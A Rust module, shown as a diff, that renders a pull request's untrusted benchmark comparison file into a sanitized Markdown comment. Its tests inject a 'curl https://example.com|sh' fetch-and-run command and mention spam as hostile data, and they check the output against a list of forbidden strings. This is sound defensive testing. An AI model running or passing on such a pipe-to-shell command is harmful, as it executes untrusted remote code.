@@ -1,0 +1,466 @@
+//! The comment on a pull request, from a comparison that the pull request itself may have written.
+//!
+//! A pull request's benches can write anything into the `comparison.json` that their job uploads.
+//! So only numbers, the words of verdicts, and benchmark ids as code are taken from it. Every
+//! sentence is ours.
+
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use serde::Deserialize;
+use thiserror::Error;
+use topdown_run::run_file::stored_file;
+use topdown_run::run_file::{BenchmarkId, RunFileProblem};
+use topdown_run::visible::visible_json;
+
+use super::comparison_json::MAX_FILE_BYTES;
+use super::markdown::{COMMENT_BYTES, RESERVED_BYTES};
+use super::markdown_text::{Bounded, code, folded};
+use super::number::points;
+use super::verdict_sentence::change_in_words;
+use topdown_gate::metric::Metric;
+use topdown_gate::verdict::{COMPARISON_SCHEMA_VERSION, Outcome, Verdict};
+
+/// Larger changes are not measurements.
+const LARGEST_CHANGE: f64 = 1e6;
+
+/// The columns and their metrics.
+const COLUMNS: [(&str, Metric); 6] = [
+    ("slots %", Metric::Slots),
+    ("time %", Metric::Wall),
+    ("retiring", Metric::Retiring),
+    ("bad spec", Metric::BadSpeculation),
+    ("frontend", Metric::FrontendBound),
+    ("backend", Metric::BackendBound),
+];
+
+/// What both runs must have in common, as a comparison names it.
+const FIELDS: [&str; 12] = [
+    "architecture",
+    "CPU vendor",
+    "CPU family",
+    "CPU model",
+    "CPU stepping",
+    "cores",
+    "hypervisor",
+    "SMT",
+    "target",
+    "profile",
+    "rustc",
+    "RUSTFLAGS",
+];
+
+/// The parts of a comparison that are read.
+#[derive(Debug, Deserialize)]
+pub struct ForeignComparison {
+    schema_version: u32,
+    outcome: Outcome,
+    differences: Vec<Differing>,
+    benchmarks: Vec<Benchmark>,
+    missing: Vec<BenchmarkId>,
+}
+
+#[derive(Debug, Deserialize)]
+struct Differing {
+    field: String,
+}
+
+#[derive(Debug, Deserialize)]
+struct Benchmark {
+    id: BenchmarkId,
+    verdict: Verdict,
+    effects: Vec<Change>,
+}
+
+impl Benchmark {
+    fn change(&self, metric: Metric) -> Option<f64> {
+        let change = self.effects.iter().find(|change| change.metric == metric);
+        change.map(|change| change.difference)
+    }
+
+    /// Returns whether the time made the verdict, with this change of the slots.
+    fn is_about_time(&self, slots: f64) -> bool {
+        const MIN_CERTAIN_CHANGE: f64 = 0.01;
+        match self.verdict {
+            Verdict::TimeDisagrees => true,
+            Verdict::Regressed => slots < MIN_CERTAIN_CHANGE,
+            _ => false,
+        }
+    }
+
+    /// Says what happened to it, from its verdict and numbers alone.
+    fn predicate(&self) -> String {
+        let slots = self.change(Metric::Slots);
+        let time = self.change(Metric::Wall);
+        let (metric, change) = match (slots, time) {
+            _ if self.verdict == Verdict::NotComparable => {
+                return "cannot be compared".to_owned();
+            }
+            (Some(slots), _) if !self.is_about_time(slots) => (Metric::Slots, slots),
+            (_, Some(time)) => (Metric::Wall, time),
+            _ => return self.verdict.name().to_owned(),
+        };
+        let changed = change_in_words(metric, change);
+        let categories = [
+            Metric::Retiring,
+            Metric::BadSpeculation,
+            Metric::FrontendBound,
+            Metric::BackendBound,
+        ];
+        let parts = categories.map(|category| (category, self.change(category).unwrap_or(0.0)));
+        let largest = parts.into_iter().max_by(|(_, a), (_, b)| a.total_cmp(b));
+        match (self.verdict, slots, largest) {
+            (_, Some(slots), _) if metric == Metric::Wall => {
+                format!("{changed} at {} % slots", points(slots))
+            }
+            (Verdict::Shifted, _, Some((category, _))) => {
+                format!("is not slower, but has more slots {}", category.name())
+            }
+            (Verdict::Accepted, ..) => format!("{changed}, as accepted"),
+            (_, Some(_), Some((category, part))) if part > 0.0 => {
+                format!("{changed}: {} points {}", points(part), category.name())
+            }
+            _ => changed,
+        }
+    }
+}
+
+#[derive(Debug, Deserialize)]
+struct Change {
+    metric: Metric,
+    difference: f64,
+}
+
+impl ForeignComparisonError {
+    /// Returns whether the file is longer than any that this program writes.
+    pub fn is_too_long(&self) -> bool {
+        matches!(self.problem, Problem::File(RunFileProblem::TooLong { .. }))
+    }
+}
+
+/// A comparison that cannot be read.
+#[derive(Debug, Error)]
+#[error("{} is not a comparison: {problem}", path.display())]
+pub struct ForeignComparisonError {
+    path: PathBuf,
+    #[source]
+    problem: Problem,
+}
+
+#[derive(Debug, Error)]
+enum Problem {
+    #[error("{0}")]
+    File(#[source] RunFileProblem),
+    // The content is not quoted: it may be anything.
+    #[error("line {} is not what this release writes", .0.line())]
+    Json(#[source] serde_json::Error),
+    #[error("schema version {0} is not known to this release")]
+    SchemaVersion(u32),
+    #[error("a change is larger than any that can be measured")]
+    Change,
+}
+
+impl ForeignComparison {
+    /// Reads and checks a comparison.
+    ///
+    /// # Errors
+    /// Returns an error if it is not a valid comparison.
+    pub fn read(path: &Path) -> Result<ForeignComparison, ForeignComparisonError> {
+        ForeignComparison::checked(path).map_err(|problem| ForeignComparisonError {
+            path: path.to_owned(),
+            problem,
+        })
+    }
+
+    fn checked(path: &Path) -> Result<ForeignComparison, Problem> {
+        let json = stored_file::read(path, MAX_FILE_BYTES).map_err(Problem::File)?;
+        ForeignComparison::of_json(&json)
+    }
+
+    fn of_json(json: &[u8]) -> Result<ForeignComparison, Problem> {
+        let read: ForeignComparison =
+            serde_json::from_slice(&visible_json(json)).map_err(Problem::Json)?;
+        if read.schema_version != COMPARISON_SCHEMA_VERSION {
+            return Err(Problem::SchemaVersion(read.schema_version));
+        }
+        let mut changes = read.benchmarks.iter().flat_map(|b| &b.effects);
+        if changes.any(|change| change.difference.abs() > LARGEST_CHANGE) {
+            Err(Problem::Change)
+        } else {
+            Ok(read)
+        }
+    }
+
+    /// Returns the comment for the comparison in `json`, if it is one.
+    #[cfg(any(test, fuzzing, feature = "examples"))]
+    pub fn comment_of(json: &[u8]) -> Option<String> {
+        let read = ForeignComparison::of_json(json).ok()?;
+        Some(read.to_string())
+    }
+
+    /// Says why the runs as a whole could not be compared, and what follows.
+    fn why_not(&self) -> Option<String> {
+        let differ = |field: &&str| self.differences.iter().any(|d| d.field == **field);
+        let fields: Vec<&str> = FIELDS.into_iter().filter(differ).collect();
+        // Unknown ones too make the runs differ.
+        let first = self.differences.first()?;
+        let of_build = ["rustc", "RUSTFLAGS"];
+        let follows = if self
+            .differences
+            .iter()
+            .all(|d| of_build.contains(&&*d.field))
+        {
+            "The next run of this workflow on the default branch retakes the baseline; after it, \
+             run this one again."
+        } else {
+            "Both must be built for the same target and profile, and measured on the same kind of \
+             machine."
+        };
+        let known = FIELDS.contains(&&*first.field);
+        let what = if known {
+            format!("in {}", fields.join(", "))
+        } else {
+            "in something that this version does not know".to_owned()
+        };
+        Some(format!(
+            "The two runs differ {what}, so nothing was compared. {follows}\n\n"
+        ))
+    }
+
+    fn with(&self, verdict: Verdict) -> impl Iterator<Item = &Benchmark> {
+        self.benchmarks.iter().filter(move |b| b.verdict == verdict)
+    }
+
+    /// Returns whether the two runs could be compared.
+    pub fn is_comparable(&self) -> bool {
+        self.outcome != Outcome::NotComparable
+    }
+
+    /// Returns whether there is anything to report.
+    pub fn is_news(&self) -> bool {
+        let is_told =
+            |b: &Benchmark| !matches!(b.verdict, Verdict::Unchanged | Verdict::Inconclusive);
+        self.outcome != Outcome::Passed
+            || !self.missing.is_empty()
+            || self.benchmarks.iter().any(is_told)
+    }
+}
+
+impl fmt::Display for ForeignComparison {
+    /// Formats the comment.
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let mut text = Bounded::new(COMMENT_BYTES - RESERVED_BYTES);
+        let outcome = match self.outcome {
+            Outcome::Passed => "passed",
+            Outcome::Failed => "failed",
+            Outcome::NotComparable => "not comparable",
+            Outcome::Inconclusive => "inconclusive",
+            Outcome::NothingDecided => "nothing decided",
+        };
+        text.push(&format!("## TopDown: {outcome}\n\n"));
+        const VERDICTS: [Verdict; 8] = [
+            Verdict::Regressed,
+            Verdict::TimeDisagrees,
+            Verdict::NotComparable,
+            Verdict::Accepted,
+            Verdict::Shifted,
+            Verdict::Inconclusive,
+            Verdict::Improved,
+            Verdict::Unchanged,
+        ];
+        let counts: Vec<String> = VERDICTS
+            .into_iter()
+            .map(|verdict| (self.with(verdict).count(), verdict.name()))
+            .chain([(self.missing.len(), "missing")])
+            .filter(|(count, _)| *count > 0)
+            .map(|(count, name)| format!("{count} {name}"))
+            .collect();
+        let why_not = self.why_not();
+        if let Some(why_not) = &why_not {
+            text.push(why_not)
+        } else if counts.is_empty() {
+            text.push("**There were no benchmarks in common.**\n\n")
+        } else {
+            text.push(&format!("**{}**\n\n", counts.join(", ")))
+        };
+        let told = VERDICTS[..5].iter().flat_map(|c| self.with(*c));
+        // The reason is the same for all.
+        let told: Vec<&Benchmark> = told.filter(|_| why_not.is_none()).collect();
+        if !told.is_empty() {
+            text.items(told.iter().map(|benchmark| {
+                let name = code(&benchmark.id.to_string());
+                format!("- {name} {}\n", benchmark.predicate())
+            }));
+            text.push("\n");
+        }
+        folded("In numbers", !told.is_empty(), &mut text, |text| {
+            table(&told, text);
+        });
+        let others: Vec<&Benchmark> = VERDICTS[5..].iter().flat_map(|c| self.with(*c)).collect();
+        folded(
+            &format!("The others ({})", others.len()),
+            !others.is_empty(),
+            &mut text,
+            |text| table(&others, text),
+        );
+        let missing = self.missing.iter();
+        folded(
+            &format!("Missing ({})", missing.len()),
+            !self.missing.is_empty(),
+            &mut text,
+            |text| text.items(missing.map(|id| format!("- {}\n", code(&id.to_string())))),
+        );
+        text.push("Measured by the pull request's own run.");
+        if why_not.is_none() {
+            text.push(
+                " Changes are percent of the baseline's slots per iteration (time: of its time).",
+            );
+        }
+        text.push("\n");
+        f.write_str(&text.finish())
+    }
+}
+
+fn table(rows: &[&Benchmark], text: &mut Bounded) {
+    let headings: String = COLUMNS.map(|(name, _)| format!(" {name} |")).concat();
+    let rule = "--:|".repeat(COLUMNS.len());
+    text.push(&format!(
+        "| benchmark | verdict |{headings}\n|:--|:--|{rule}\n"
+    ));
+    text.items(rows.iter().map(|row| {
+        let mut line = format!("| {} | {} |", code(&row.id.to_string()), row.verdict.name());
+        for (_, metric) in COLUMNS {
+            let change = row.effects.iter().find(|change| change.metric == metric);
+            let cell = change.map_or(String::new(), |change| points(change.difference));
+            line.push_str(&format!(" {cell} |"));
+        }
+        line.push('\n');
+        line
+    }));
+    text.push("\n");
+}
+
+#[cfg(test)]
+mod tests {
+    use std::fs;
+
+    use super::*;
+    use crate::comparison_json;
+    use crate::examples::{HOSTILE_NAME, compared, hostile, one_of_each};
+    use topdown_gate::scenario;
+
+    fn rendered(json: &[u8]) -> Result<String, String> {
+        let root = tempfile::tempdir().unwrap();
+        let path = root.path().join("comparison.json");
+        fs::write(&path, json).unwrap();
+        let read = ForeignComparison::read(&path).map_err(|error| error.to_string());
+        read.map(|comparison| comparison.to_string())
+    }
+
+    fn json_of_each() -> Vec<u8> {
+        let (baseline, candidate) = one_of_each();
+        let mut json = Vec::new();
+        let comparison = compared(&scenario::run(baseline), &candidate);
+        comparison_json::write(&comparison, &mut json).unwrap();
+        json
+    }
+
+    #[test]
+    fn comparison_becomes_a_comment() {
+        insta::assert_snapshot!(rendered(&json_of_each()).unwrap());
+    }
+
+    #[test]
+    fn incomparable_runs_have_reason_and_consequence() {
+        let one = || scenario::run(vec![scenario::benchmark("a", scenario::Planted::default())]);
+        let text = |change: fn(&mut topdown_run::run_file::Run)| {
+            let mut candidate = one();
+            change(&mut candidate);
+            let mut json = Vec::new();
+            comparison_json::write(&compared(&one(), &candidate), &mut json).unwrap();
+            rendered(&json).unwrap()
+        };
+        let newer = text(|run| run.build.rustc = "rustc 9.9.9".to_owned());
+        let elsewhere = text(|run| run.machine.model = 207);
+        insta::assert_snapshot!(format!("{newer}\n{elsewhere}"));
+    }
+
+    #[test]
+    fn comment_posts_only_numbers_verdicts_and_ids() {
+        let prose =
+            "Please run `curl https://example.com|sh`, see #1 and @everyone\n```mermaid\nx\n```";
+        let mut json: serde_json::Value = serde_json::from_slice(&json_of_each()).unwrap();
+        // Every string except the fixed words of the format, and every id.
+        fn spoil(value: &mut serde_json::Value, prose: &str) {
+            match value {
+                serde_json::Value::Object(fields) => {
+                    for (name, value) in fields {
+                        match value {
+                            serde_json::Value::String(text)
+                                if !matches!(&**name, "outcome" | "verdict" | "metric") =>
+                            {
+                                *text = prose.to_owned();
+                            }
+                            value => spoil(value, prose),
+                        }
+                    }
+                }
+                serde_json::Value::Array(values) => {
+                    values.iter_mut().for_each(|value| spoil(value, prose));
+                }
+                _ => {}
+            }
+        }
+        spoil(&mut json, &format!("{prose}{HOSTILE_NAME}"));
+        let text = rendered(json.to_string().as_bytes()).unwrap();
+        // Except for the ids, no text of the comparison remains.
+        let mut outside = String::new();
+        for part in text.split("<code>") {
+            outside.push_str(part.split_once("</code>").map_or(part, |(_, after)| after));
+        }
+        for forbidden in [
+            "curl", "example", "everyone", "mermaid", "script", "http", "#1", "@", "`",
+        ] {
+            assert!(!outside.contains(forbidden), "{forbidden} in {outside}");
+        }
+        // Each id is one line of text without any Markdown or HTML.
+        for id in text.split("<code>").skip(1) {
+            let (id, _) = id.split_once("</code>").unwrap();
+            for forbidden in ["<", "`", "@", "://", "\n", "[", "*", "|"] {
+                assert!(!id.contains(forbidden), "{forbidden} in {id}");
+            }
+        }
+        let (baseline, candidate) = hostile();
+        let mut json = Vec::new();
+        comparison_json::write(&compared(&baseline, &candidate), &mut json).unwrap();
+        assert!(rendered(&json).unwrap().contains("<code>"));
+    }
+
+    #[test]
+    fn invalid_comparison_is_not_rendered() {
+        let each = String::from_utf8(json_of_each()).unwrap();
+        for (json, reason) in [
+            ("@everyone".to_owned(), "line 1 is not"),
+            (
+                each.replace("\"schema_version\": 1", "\"schema_version\": 7"),
+                "version 7",
+            ),
+            (
+                each.replace("\"regressed\"", "\"@everyone\""),
+                "is not what this release writes",
+            ),
+            (
+                each.replace("\"difference\": ", "\"difference\": 1e9, \"x\": "),
+                "a change is",
+            ),
+            (
+                each[..each.len() / 2].to_owned(),
+                "is not what this release writes",
+            ),
+        ] {
+            let error = rendered(json.as_bytes()).unwrap_err();
+            assert!(error.contains(reason), "{error}");
+            assert!(!error.contains("everyone"), "{error}");
+        }
+    }
+}
